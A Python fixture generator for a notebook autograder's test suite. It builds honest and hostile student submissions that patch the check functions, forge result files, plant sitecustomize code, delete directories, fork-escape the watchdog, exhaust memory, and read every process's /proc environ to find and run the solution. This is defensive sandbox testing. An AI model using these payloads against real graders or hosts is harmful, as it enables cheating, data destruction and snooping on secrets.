"""Regenerate the fixture solution, its exercise and the hostile submissions.

Run from the repository root: ``python tests/grading_fixtures/make_fixtures.py``.
Each submission is the released exercise with some cells replaced (by cell id) or
added, mimicking what a (hostile) student could hand in. The cases after
``delete_files`` attack the grader itself, one per root cause of the sandbox issue
(see docs/grading.md); their code is written so that, should the sandbox ever fail, it
leaves only harmless marker files (named ``course-hostile*``) behind: it overwrites
asset files only under a folder named ``course-test-mirror`` (the test's own copy).
"""

from __future__ import annotations

import copy
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from course_utils.grading.notebook import notebook_text
from course_utils.grading.release import release_notebook

HERE = Path(__file__).resolve().parent
SOLUTION = HERE / "solutions" / "99_fixture.ipynb"
EXERCISE = HERE / "exercises" / "99_fixture.ipynb"
SUBMISSIONS = HERE / "submissions"

SQUARES = "squares = np.arange(5) ** 2"
NORMALISE = (
    "def normalise(x):\n"
    "    return (x - x.mean()) / x.std()\n"
    "\n"
    "z = normalise(np.array([1.0, 2.0, 3.0, 4.0]))"
)
SCORE = "score = 0.9"


def code(cell_id: str, source: str, tags: list[str] | None = None) -> nbformat.NotebookNode:
    """A code cell with a fixed id (and tags)."""
    cell = new_code_cell(source, id=cell_id)
    if tags:
        cell.metadata["tags"] = tags
    return cell


def solution() -> nbformat.NotebookNode:
    """The fixture solution notebook (lesson 99, NumPy only)."""
    nb = new_notebook(
        cells=[
            new_markdown_cell("# Fixture lesson 99", id="title"),
            code("setup", "import numpy as np\nfrom course_utils.checks.registry import check"),
            code(
                "squares-code", "### BEGIN SOLUTION\nsquares = np.arange(5) ** 2\n### END SOLUTION"
            ),
            code("squares-check", 'check("99.squares", squares=squares)', ["check"]),
            code(
                "normalise-code",
                "def normalise(x):\n"
                "    ### BEGIN SOLUTION\n"
                "    return (x - x.mean()) / x.std()\n"
                "    ### END SOLUTION\n"
                "\n"
                "z = normalise(np.array([1.0, 2.0, 3.0, 4.0]))",
            ),
            code("normalise-check", 'check("99.normalise", z=z)', ["check"]),
            code(
                "normalise-hidden",
                'check("99.normalise_hidden", z=normalise(np.array([10.0, 0.0, 5.0])))',
                ["hidden-check"],
            ),
            code("score-code", "### BEGIN SOLUTION\nscore = 0.9\n### END SOLUTION"),
            code("score-check", 'check("99.accuracy", score=score)', ["check"]),
        ],
        metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}},
    )
    nb.cells[3].metadata["check_id"] = "99.squares"
    return nb


def variant(exercise: nbformat.NotebookNode, **replace: str) -> nbformat.NotebookNode:
    """Copy the exercise with cells replaced by id (underscores in keys become dashes)."""
    nb = copy.deepcopy(exercise)
    for key, source in replace.items():
        cell_id = key.replace("_", "-")
        cell = next(c for c in nb.cells if c.id == cell_id)
        cell.source = source
    return nb


def insert_after(nb: nbformat.NotebookNode, cell_id: str, source: str, new_id: str) -> None:
    """Insert a student-written code cell after the cell with ``cell_id``."""
    index = next(i for i, c in enumerate(nb.cells) if c.id == cell_id)
    nb.cells.insert(index + 1, new_code_cell(source, id=new_id))


def submissions(exercise: nbformat.NotebookNode) -> dict[str, nbformat.NotebookNode]:
    """Hostile and honest submissions, by case name."""
    subs = {"blank": variant(exercise)}
    subs["perfect"] = variant(
        exercise, squares_code=SQUARES, normalise_code=NORMALISE, score_code=SCORE
    )

    subs["patch_check"] = variant(exercise)
    insert_after(
        subs["patch_check"],
        "setup",
        "import course_utils.checks.registry as c\n"
        "from course_utils.checks.registry import CheckOutcome\n"
        "c.check = lambda *a, **k: print('✓ all checks passed')\n"
        "c.run_check = lambda name, **k: CheckOutcome(name, 99, 1)\n"
        "c._REGISTRY.clear()\n"
        "check = c.check",
        "patch",
    )

    subs["patch_numpy"] = variant(
        exercise,
        squares_code="squares = np.arange(5)",
        normalise_code=NORMALISE,
        score_code="score = 0.6",
    )
    insert_after(
        subs["patch_numpy"],
        "setup",
        "import json\n"
        "np.save = lambda *a, **k: None\n"
        "np.array_equal = lambda *a, **k: True\n"
        "np.allclose = np.isclose = lambda *a, **k: True\n"
        "json.dump = lambda *a, **k: None  # json.dumps would break the kernel protocol\n"
        "list = tuple = dict = str = float = open = None\n"
        "Exception = BaseException = None",
        "patch",
    )

    subs["edited_check"] = variant(
        exercise,
        squares_code="squares = [0, 1, 2]",
        squares_check='check("99.squares", squares=np.arange(5) ** 2)',
        score_code=SCORE,
    )
    subs["edited_check"].cells = [c for c in subs["edited_check"].cells if c.id != "score-check"]

    subs["fake_print"] = variant(exercise)
    insert_after(
        subs["fake_print"],
        "score-check",
        "print('✓ 99.squares (1/1)')\nprint('✓ 99.normalise (2/2)')\nprint('All checks passed!')",
        "fake",
    )

    subs["sys_exit"] = variant(
        exercise, squares_code=SQUARES + "\nimport sys\nsys.exit(0)", normalise_code=NORMALISE
    )
    subs["os_exit"] = variant(
        exercise, squares_code=SQUARES, normalise_code="import os\nos._exit(0)"
    )
    subs["infinite_loop"] = variant(
        exercise, squares_code=SQUARES, normalise_code="while True:\n    pass"
    )
    subs["memory_hog"] = variant(
        exercise,
        squares_code=SQUARES,
        normalise_code="hog = []\nwhile True:\n    hog.append(np.ones(10_000_000))",
    )
    subs["delete_files"] = variant(
        exercise, squares_code=SQUARES, normalise_code=NORMALISE, score_code=SCORE
    )
    insert_after(
        subs["delete_files"],
        "normalise-check",
        "import os, shutil, course_utils\n"
        "shutil.rmtree(os.path.dirname(course_utils.__file__))\n"
        "shutil.rmtree(os.path.dirname(os.getcwd()), ignore_errors=True)",
        "delete",
    )
    return subs


MARKER = "course-hostile"

# Writable folders a kernel can find: its mounts, the usual temp places, the capture paths
# named in earlier grader cells (IPython keeps every executed cell in ``In``).
FIND_WRITABLE = (
    "import os, re\n"
    "def writable_dirs():\n"
    "    places = {'/tmp', '/dev/shm', os.path.expanduser('~'), os.getcwd(),\n"
    "              os.path.dirname(os.getcwd())}\n"
    "    try:\n"
    "        for line in open('/proc/self/mountinfo'):\n"
    "            places.add(line.split()[4])\n"
    "    except OSError:\n"
    "        pass\n"
    "    for cell in globals().get('In', []):\n"
    "        places.update(re.findall(r\"'(/[^']*?)/step\\d+'\", cell))\n"
    "    found, visited = set(), 0\n"
    "    for place in sorted(places):\n"
    "        for root, dirs, files in os.walk(place):\n"
    "            visited += 1\n"
    "            if root.startswith(('/proc', '/sys', '/usr', '/dev/pts')) or visited > 3000:\n"
    "                dirs[:] = []\n"
    "                continue\n"
    "            if os.access(root, os.W_OK):\n"
    "                found.add(root)\n"
    "    return sorted(found)[:300]\n"
)


def hostile_cases(exercise: nbformat.NotebookNode) -> dict[str, nbformat.NotebookNode]:
    """Submissions that attack the grader (sandbox issue root causes 1-6), by case name."""
    subs: dict[str, nbformat.NotebookNode] = {}

    # 1. Forge the artifacts of checks: pre-fill future capture folders, rewrite past ones.
    forged = (
        "import json, numpy as np\n"
        "def forge(folder):\n"
        "    os.makedirs(folder, exist_ok=True)\n"
        "    values = {'squares': np.arange(5) ** 2, 'score': 0.9,\n"
        "              'z': (np.array([1.0, 2, 3, 4]) - 2.5) / np.array([1.0, 2, 3, 4]).std()}\n"
        "    manifest = {}\n"
        "    for name, value in values.items():\n"
        "        if name == 'score':\n"
        "            open(os.path.join(folder, 'score.json'), 'w').write('0.9')\n"
        "            manifest[name] = {'kind': 'json', 'file': 'score.json'}\n"
        "        else:\n"
        "            np.save(os.path.join(folder, name + '.npy'), value)\n"
        "            manifest[name] = {'kind': 'npy', 'file': name + '.npy'}\n"
        "    open(os.path.join(folder, 'manifest.json'), 'w').write(json.dumps(manifest))\n"
        "def forge_everywhere():\n"
        "    likely = [d for d in writable_dirs() if d.endswith(('/out', '/exchange', '/ipc'))]\n"
        "    for folder in likely[:20]:\n"
        "        for step in range(12):\n"
        "            try:\n"
        "                forge(os.path.join(folder, 'out', f'step{step}'))\n"
        "                forge(os.path.join(folder, f'step{step}'))\n"
        "            except OSError:\n"
        "                pass\n"
        "    for cell in In:\n"
        "        for folder in re.findall(r\"'(/[^']*?/step\\d+)'\", cell):\n"
        "            try:\n"
        "                forge(folder)\n"
        "            except OSError:\n"
        "                pass\n"
        "forge_everywhere()\n"
    )
    subs["forge_artifacts"] = variant(exercise)
    insert_after(subs["forge_artifacts"], "setup", FIND_WRITABLE + forged, "forge")
    insert_after(subs["forge_artifacts"], "score-check", "forge_everywhere()", "forge-again")

    # 1. Plant code the check process would run: sitecustomize, a fake worker, a fake package.
    planted = (
        "payload = ('import course_utils.checks.registry as r\\n'\n"
        "           'r.run_check = lambda name, **k: r.CheckOutcome(name, 99, 99)\\n')\n"
        "for folder in writable_dirs():\n"
        "    for name in ('sitecustomize.py', 'usercustomize.py', 'course_utils/__init__.py',\n"
        "                 'course_utils/grading/__init__.py', 'course_utils/grading/worker.py',\n"
        "                 'course_utils/checks/registry.py'):\n"
        "        try:\n"
        "            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)\n"
        "            open(os.path.join(folder, name), 'w').write(payload)\n"
        "        except OSError:\n"
        "            pass\n"
    )
    subs["plant_code"] = variant(exercise)
    insert_after(subs["plant_code"], "setup", FIND_WRITABLE + planted, "plant")

    # 1. Pre-fill the check results, put FIFOs where the grader might read or write, crash.
    prefilled = (
        "import json\n"
        "lines = ''.join(json.dumps({'key': k, 'points': 99, 'message': ''}) + '\\n'\n"
        "                for k in ('99.squares', '99.normalise', '99.normalise_hidden', '99.accuracy'))\n"
        "for folder in writable_dirs():\n"
        "    for name in ('results.jsonl', 'out/results.jsonl'):\n"
        "        try:\n"
        "            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)\n"
        "            open(os.path.join(folder, name), 'a').write(lines)\n"
        "        except OSError:\n"
        "            pass\n"
        "    for name in ('job.json', 'kernel.json.fifo', 'worker.log'):\n"
        "        try:\n"
        "            os.mkfifo(os.path.join(folder, name))\n"
        "        except OSError:\n"
        "            pass\n"
        "    for step in range(12):  # FIFOs where a capture would put an artifact file\n"
        "        try:\n"
        "            os.makedirs(os.path.join(folder, 'out', f'step{step}'), exist_ok=True)\n"
        "            os.mkfifo(os.path.join(folder, 'out', f'step{step}', 'squares.npy'))\n"
        "            os.symlink('/etc/passwd', os.path.join(folder, 'out', f'step{step}', 'z.npy'))\n"
        "        except OSError:\n"
        "            pass\n"
    )
    subs["prefill_results"] = variant(exercise, score_code="import os\nos._exit(1)")
    insert_after(subs["prefill_results"], "setup", FIND_WRITABLE + prefilled, "prefill")

    # 2. Write where the grader's user can: site-packages (.pth), the kernelspec, assets, /tmp.
    environment = (
        "import glob, os, site, sys\n"
        f"MARK = {MARKER!r}\n"
        "wrote = []\n"
        "def attempt(path, mode='w', data=''):\n"
        "    try:\n"
        "        with open(path, mode) as handle:\n"
        "            handle.write(data)\n"
        "        wrote.append(path)\n"
        "    except OSError:\n"
        "        pass\n"
        "for folder in set(sys.path + site.getsitepackages()):\n"
        "    if folder and os.path.isdir(folder):\n"
        "        pth = os.path.join(folder, 'zz_' + MARK.replace('-', '_') + '.pth')\n"
        "        attempt(pth, data='# ' + MARK + '\\n')\n"
        "for spec in glob.glob(sys.prefix + '/share/jupyter/kernels/*/kernel.json'):\n"
        "    attempt(spec, 'a')  # opening for writing is enough to show it can be changed\n"
        "    attempt(os.path.join(os.path.dirname(spec), MARK + '.txt'))\n"
        "for key in ('COURSE_MIRROR', 'KERAS_HOME', 'COURSE_CACHE_READONLY'):\n"
        "    top = os.environ.get(key)\n"
        "    if not top:\n"
        "        continue\n"
        "    for root, dirs, files in os.walk(top):\n"
        "        attempt(os.path.join(root, MARK + '.txt'))\n"
        "        for name in files:\n"
        "            if 'course-test-mirror' in root:  # only ever the test's own copy\n"
        "                attempt(os.path.join(root, name), 'r+')\n"
        "                attempt(os.path.join(root, name), 'w', 'black and white')\n"
        "import course_utils\n"
        "attempt(course_utils.__file__, 'a')\n"
        "attempt('/tmp/' + MARK + '-marker')\n"
        "print(len(wrote), 'writes got through:', wrote[:5])\n"
    )
    subs["write_environment"] = variant(exercise, squares_code=SQUARES)
    insert_after(subs["write_environment"], "setup", environment, "environment")

    # 3. Escape the watchdog: double fork + setsid, a child that outlives the kernel; /dev/shm.
    escape = (
        "import os, sys\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        code = 'import time\\n# {MARKER}-escape\\nwhile True: time.sleep(0.5)'\n"
        "        os.execv(sys.executable, [sys.executable, '-c', code])\n"
        "    os._exit(0)\n"
        "os.waitpid(pid, 0)\n"
        "try:\n"
        "    with open('/dev/shm/' + 'hog', 'wb') as shm:\n"
        "        for _ in range(100):\n"
        "            shm.write(b'x' * 10_000_000)\n"
        "except OSError as error:\n"
        "    print('/dev/shm:', error)\n"
    )
    subs["escape_children"] = variant(exercise, squares_code=SQUARES)
    insert_after(subs["escape_children"], "setup", escape, "escape")
    subs["child_memory"] = variant(
        exercise,
        squares_code=SQUARES,
        normalise_code=(
            "import subprocess, sys\n"
            "hog = 'import numpy as np\\nhog = []\\nwhile True: hog.append(np.ones(10_000_000))'\n"
            "subprocess.run([sys.executable, '-c', hog])"
        ),
    )

    # 4. Read the grader's world: /proc of every process, then the file system, for the solution.
    spy = (
        "import json, os\n"
        "blobs = []\n"
        "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    for what in ('cmdline', 'environ'):\n"
        "        try:\n"
        "            blobs.append(open(f'/proc/{pid}/{what}', 'rb').read().decode(errors='ignore'))\n"
        "        except OSError:\n"
        "            pass\n"
        "    for link in ('cwd', 'root'):\n"
        "        try:\n"
        "            blobs.append(os.readlink(f'/proc/{pid}/{link}'))\n"
        "        except OSError:\n"
        "            pass\n"
        "words = {w for b in blobs for w in b.replace('\\0', ' ').replace('=', ' ').split()}\n"
        "places = {w for w in words if w.startswith('/')}\n"
        "places |= {'/work', '/home', '/root', '/srv', '/tmp', '/'}\n"
        "solution, seen = None, 0\n"
        "for place in sorted(places):\n"
        "    for root, dirs, files in os.walk(place if os.path.isdir(place) else os.path.dirname(place)):\n"
        "        seen += 1\n"
        "        if root.startswith(('/proc', '/sys', '/usr', '/dev')) or seen > 20000:\n"
        "            dirs[:] = []\n"
        "        if '99_fixture.ipynb' in files and 'solutions' in root:\n"
        "            solution = os.path.join(root, '99_fixture.ipynb')\n"
        "            break\n"
        "    if solution:\n"
        "        break\n"
        "print('solution found:', solution)\n"
        "if solution:\n"
        "    for cell in json.load(open(solution))['cells']:\n"
        "        text = ''.join(cell['source'])\n"
        "        if cell['cell_type'] == 'code' and 'check(' not in text:\n"
        "            exec(text)\n"
    )
    subs["read_grader"] = variant(exercise)
    insert_after(subs["read_grader"], "setup", spy, "spy")

    # 4. Rewrite the grader's capture cells with an IPython input transformer.
    transformer = (
        "def rewrite(lines):\n"
        "    fake = 'lambda: np.array([-1.0, 1.0])'\n"
        "    return [line.replace('lambda: z)', fake + ')')\n"
        "                .replace('lambda: normalise(np.array([10.0, 0.0, 5.0])))', fake + ')')\n"
        "            for line in lines]\n"
        "get_ipython().input_transformers_post.append(rewrite)"
    )
    subs["input_transformer"] = variant(exercise)
    insert_after(subs["input_transformer"], "setup", transformer, "transformer")

    # 5. Unbounded output: 200 MB in small writes and one 40 MB write, then real work.
    subs["flood_output"] = variant(
        exercise,
        squares_code=(
            "import sys\n"
            "line = 'x' * 1_000_000\n"
            "for _ in range(200):\n"
            "    print(line)\n"
            "sys.stdout.write('y' * 40_000_000)\n"
            "squares = np.arange(5) ** 2"
        ),
    )

    # 6. Notebook metadata: a lesson id that is a path (the notebook as its own "solution").
    subs["lesson_path"] = variant(exercise, squares_code=SQUARES, normalise_code=NORMALISE,
                                  score_code=SCORE)
    subs["lesson_path"].metadata["course"] = {"lesson": "../submissions/99"}
    return subs


def main() -> None:
    """Write the solution, release the exercise, write every submission."""
    SOLUTION.parent.mkdir(parents=True, exist_ok=True)
    SOLUTION.write_text(notebook_text(solution()), encoding="utf-8")
    release_notebook(SOLUTION, EXERCISE)
    exercise = nbformat.read(EXERCISE, as_version=4)
    SUBMISSIONS.mkdir(exist_ok=True)
    for name, nb in {**submissions(exercise), **hostile_cases(exercise)}.items():
        nbformat.validate(nb)
        (SUBMISSIONS / f"99_fixture-{name}.ipynb").write_text(notebook_text(nb), encoding="utf-8")


if __name__ == "__main__":
    main()
